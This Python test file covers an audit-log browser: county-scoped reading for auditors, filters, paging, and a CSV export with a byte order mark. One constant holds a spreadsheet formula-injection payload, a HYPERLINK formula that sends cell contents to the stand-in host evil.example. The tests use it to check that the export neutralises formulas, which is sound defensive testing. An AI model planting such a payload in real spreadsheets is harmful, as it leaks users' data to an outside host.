"""Auditors (issue 14): the audit-log browser with its filters and pages, its CSV export (UTF-8 with BOM, texts byte
for byte, no formula), each reader's reach (a county auditor reads their county's entries only), and the start page
that says how far an auditor reads."""
from __future__ import annotations

import csv
import io
import re
from datetime import UTC, datetime, timedelta

import pytest

from scheduler.domain.review_terms import Action, ReviewState, Role
from scheduler.services import accounts
from scheduler.store.models import AuditEvent, Recording
from tests.support.world import AT, PASSWORD
from tests.web.test_pages import Browser

HOSTILE_COMMENT = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'
S = ReviewState


def recording(sessions, world, lesson_id: int, teacher: str, state: ReviewState) -> int:  # type: ignore[no-untyped-def]
    """A recording row as an upload leaves it (the log reads only its lesson and state)."""
    with sessions.begin() as session:
        row = Recording(
            lesson_id=lesson_id, revision=1, teacher_id=world.user(teacher).id, state=state, version=1,
            media_name=f"m{lesson_id}.mp4", original_filename="第1课.mp4", size_bytes=1, checksum="c" * 64,
            container="mp4", video_codec="h264", audio_codec="aac", width=160, height=90, frame_rate_num=25,
            frame_rate_den=1, duration_frames=25, audio_sample_rate=48000, audio_channels=2, created_at=AT,
        )
        session.add(row)
        session.flush()
        return row.id


def decision(sessions, world, recording_id: int, who: str, action: Action, at: datetime,  # type: ignore[no-untyped-def]
             comment: str | None = None) -> None:
    user = world.user(who)
    with sessions.begin() as session:
        session.add(AuditEvent(recording_id=recording_id, revision=1, actor_id=user.id, role=user.role, action=action,
                               from_state=S.COUNTY_REVIEW, to_state=S.CITY_REVIEW, comment=comment,
                               checksum="c" * 64, at=at))


@pytest.fixture
def trail(sessions, world):  # type: ignore[no-untyped-def]
    """Decisions on a county A and a county B recording; the last of A's at 01:00 Beijing time on 11 February."""
    a = recording(sessions, world, world.lesson_a, "teacher_a", S.CITY_REVIEW)
    b = recording(sessions, world, world.lesson_b, "teacher_b", S.CITY_REVIEW)
    decision(sessions, world, a, "teacher_a", Action.SUBMIT, AT)
    decision(sessions, world, a, "county_a", Action.APPROVE, AT + timedelta(hours=1), HOSTILE_COMMENT)
    decision(sessions, world, b, "teacher_b", Action.SUBMIT, AT + timedelta(hours=2))
    decision(sessions, world, b, "county_b", Action.REQUEST_CHANGES, AT + timedelta(hours=3), "板书字太小，请重新录制")
    decision(sessions, world, a, "city", Action.APPROVE, datetime(2020, 2, 10, 17, 0, tzinfo=UTC), "同意")
    accounts.create_user(sessions(), username="auditor_a", password=PASSWORD, role=Role.AUDITOR,
                         display_name="南湖审计", at=AT, county_id=world.county_a)
    return a, b


def rows(page: str) -> list[str]:
    return re.findall(r'<tr class="audit-entry[^"]*">(.*?)</tr>', page, re.DOTALL)


def test_a_county_auditor_reads_their_countys_entries_and_a_city_wide_one_all(client, app, world, trail):
    everyone = Browser(client, "auditor").page("/audit/")
    assert len(rows(everyone)) == 5 and "观潮" in everyone and "两位数乘两位数" in everyone
    county = Browser(app.test_client(), "auditor_a").page("/audit/")
    assert len(rows(county)) == 3 and "观潮" not in county and "秀洲初审" not in county
    assert "秀洲区" not in county  # not even among the filters' counties
    assert Browser(app.test_client(), "auditor_a").page(f"/audit/?county={world.county_b}").count("audit-entry") == 0


@pytest.mark.parametrize("username", ["teacher_a", "county_a", "operator"])
def test_those_who_do_not_audit_are_refused(client, world, trail, username):
    person = Browser(client, username)
    assert client.get("/audit/").status_code == 403 and client.get("/audit/export.csv").status_code == 403
    assert "审计日志" not in person.page("/?lang=zh", follow_redirects=True)


def test_the_filters_narrow_the_log_by_actor_action_county_and_local_dates(client, world, trail):
    auditor = Browser(client, "auditor")
    by_actor = rows(auditor.page(f"/audit/?actor={world.user('county_b').id}"))
    assert len(by_actor) == 1 and "板书字太小" in by_actor[0]
    assert len(rows(auditor.page("/audit/?action=approve"))) == 2
    assert len(rows(auditor.page(f"/audit/?county={world.county_a}&action=approve"))) == 2
    assert len(rows(auditor.page(f"/audit/?county={world.county_b}"))) == 2
    # 17:00 UTC on the 10th is 01:00 on the 11th in Beijing: the days are the service's local days.
    eleventh = rows(auditor.page("/audit/?from=2020-02-11&to=2020-02-11"))
    assert len(eleventh) == 1 and "同意" in eleventh[0]
    assert len(rows(auditor.page("/audit/?to=2020-02-10"))) == 4
    refused = client.get("/audit/?from=2020-02-31")
    assert refused.status_code == 422 and "不是有效日期" in refused.get_data(as_text=True)
    english = client.get("/audit/?from=yesterday&lang=en").get_data(as_text=True)
    assert "From is not a date (e.g. 2026-11-29)." in english


def test_the_log_comes_a_page_at_a_time_newest_first(client, sessions, world, trail, monkeypatch):
    monkeypatch.setattr("web.pages.audit.PER_PAGE", 2)
    auditor = Browser(client, "auditor")
    first, third = auditor.page("/audit/"), auditor.page("/audit/?page=3")
    assert len(rows(first)) == 2 and "同意" in rows(first)[0]  # the newest: the city's approval
    assert len(rows(third)) == 1 and "王老师" in rows(third)[0]  # the oldest: teacher A's submission
    county_a = auditor.page(f"/audit/?county={world.county_a}")
    assert f'href="/audit/?page=2&amp;county={world.county_a}"' in county_a  # the pager keeps the filters


def read_csv(body: bytes) -> list[list[str]]:
    assert body.startswith(b"\xef\xbb\xbf"), "no byte order mark: Excel would garble the Chinese"
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))


def test_the_csv_export_opens_in_excel_with_texts_byte_for_byte_and_no_formula(client, app, world, trail):
    Browser(client, "auditor")
    response = client.get(f"/audit/export.csv?county={world.county_a}")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    assert "attachment" in response.headers["Content-Disposition"]
    table = read_csv(response.data)
    header, entries = table[0], table[1:]
    assert header[:5] == ["时间", "用户名", "姓名", "角色", "操作"] and len(entries) == 3
    by_column = [dict(zip(header, entry, strict=True)) for entry in entries]
    assert by_column[0]["时间"] == "2020-02-11 01:00:00" and by_column[0]["意见"] == "同意"
    assert by_column[1]["意见"] == "'" + HOSTILE_COMMENT  # shown as text, never run
    assert all(not cell.startswith(("=", "+", "-", "@")) for entry in entries for cell in entry)
    assert by_column[1]["姓名"].encode() == "南湖初审".encode() and by_column[1]["操作"] == "通过"
    assert by_column[2]["标题"].encode() == "两位数乘两位数".encode() and by_column[2]["县区"] == "南湖区"
    county = Browser(app.test_client(), "auditor_a")
    assert len(read_csv(county.client.get("/audit/export.csv").data)) == 4  # theirs only, whatever they ask
    assert len(read_csv(county.client.get(f"/audit/export.csv?county={world.county_b}").data)) == 1
    english = read_csv(client.get("/audit/export.csv?lang=en").data)
    assert english[0][:2] == ["Time", "Username"] and len(english) == 6


def test_an_auditors_start_page_says_how_far_they_read(client, app, world, trail):
    county = Browser(client, "auditor_a").page("/overview")
    facts = re.search(r'<dl class="facts reader-scope">(.*?)</dl>', county, re.DOTALL)
    assert facts and "县级审计员" in facts.group(1) and "南湖区" in facts.group(1)
    english = Browser(app.test_client(), "auditor_a").page("/overview?lang=en")
    assert "County auditor" in english and "南湖区" in english
    everyone = Browser(app.test_client(), "auditor").page("/overview")
    assert "全部县区" in everyone and 'href="/audit/"' in everyone
    assert 'class="facts reader-scope"' not in Browser(app.test_client(), "admin").page("/overview")


def test_the_audit_pages_hold_no_english(client, world, trail):
    from tests.web.test_chinese_pages import english_words

    auditor = Browser(client, "auditor_a")
    for url in ("/audit/", "/overview", "/audit/?from=nonsense"):
        page = auditor.client.get(url).get_data(as_text=True)
        data = {"city", "county", "teacher", "http", "evil", "example"}  # usernames and the hostile comment
        assert [w for w in english_words(page) if w not in data] == [], url


@pytest.fixture
def admin_changes(sessions, world, trail):  # type: ignore[no-untyped-def]
    """Beside the decisions: the admin disables county_b's reviewer (newest of all) and resets a password."""
    from scheduler.domain.admin_actions import AdminAction
    from scheduler.services import admin_audit
    from scheduler.services.recordings import actor_for

    admin = actor_for(world.user("admin"))
    county_b = world.user("county_b")
    with sessions.begin() as session:
        admin_audit.record(session, admin, AdminAction.USER_DISABLED, ("user", county_b.id),
                           {"active": [True, False]}, AT + timedelta(hours=5))
        admin_audit.record(session, admin, AdminAction.PASSWORD_RESET, ("user", county_b.id), {},
                           AT + timedelta(minutes=30))
    return county_b


def test_admin_changes_are_in_the_log_of_those_who_read_every_county(client, app, world, admin_changes):
    auditor = Browser(client, "auditor")
    entries = rows(auditor.page("/audit/"))
    assert len(entries) == 7
    assert "停用账号" in entries[1] and "账号 county_b" in entries[1] and "管理员" in entries[1]  # newest but the 2020 one
    assert "管理员重置密码" in entries[5]  # between the decisions of 01:00 and 02:00 UTC
    assert len(rows(auditor.page("/audit/?action=user_disabled"))) == 1
    assert len(rows(auditor.page(f"/audit/?actor={world.user('admin').id}"))) == 2
    assert len(rows(auditor.page(f"/audit/?county={world.county_a}"))) == 3  # admin changes belong to no county
    from tests.web.test_chinese_pages import english_words

    data = {"admin", "city", "county", "teacher", "http", "evil", "example"}  # usernames and the hostile comment
    assert [w for w in english_words(auditor.page("/audit/")) if w not in data] == []
    english = auditor.page("/audit/?lang=en")
    assert "account disabled" in english and "Account county_b" in english
    county = Browser(app.test_client(), "auditor_a").page("/audit/")
    assert len(rows(county)) == 3 and "county_b" not in county  # a county auditor reads their county only
    assert Browser(app.test_client(), "auditor_a").page("/audit/?action=user_disabled").count("audit-entry") == 0


def test_admin_changes_page_and_export_in_the_one_order(client, world, admin_changes, monkeypatch):
    monkeypatch.setattr("web.pages.audit.PER_PAGE", 3)
    auditor = Browser(client, "auditor")
    pages = [rows(auditor.page(f"/audit/?page={n}")) for n in (1, 2, 3)]
    assert [len(p) for p in pages] == [3, 3, 1] and "停用账号" in pages[0][1] and "管理员重置密码" in pages[1][2]
    assert "导出为 CSV 表格（7 条）" in auditor.page("/audit/")
    table = read_csv(client.get("/audit/export.csv").data)
    header, entries = table[0], table[1:]
    by_column = [dict(zip(header, entry, strict=True)) for entry in entries]
    assert len(entries) == 7 and by_column[1]["操作"] == "停用账号" and by_column[1]["账号或频道"] == "账号 county_b"
    assert by_column[1]["修改内容"] == "停用账号" and by_column[1]["用户名"] == "admin"
    assert by_column[1]["时间"] == "2020-02-10 14:00:00"  # 06:00 UTC in Beijing
    assert len(read_csv(client.get("/audit/export.csv?action=approve").data)) == 3
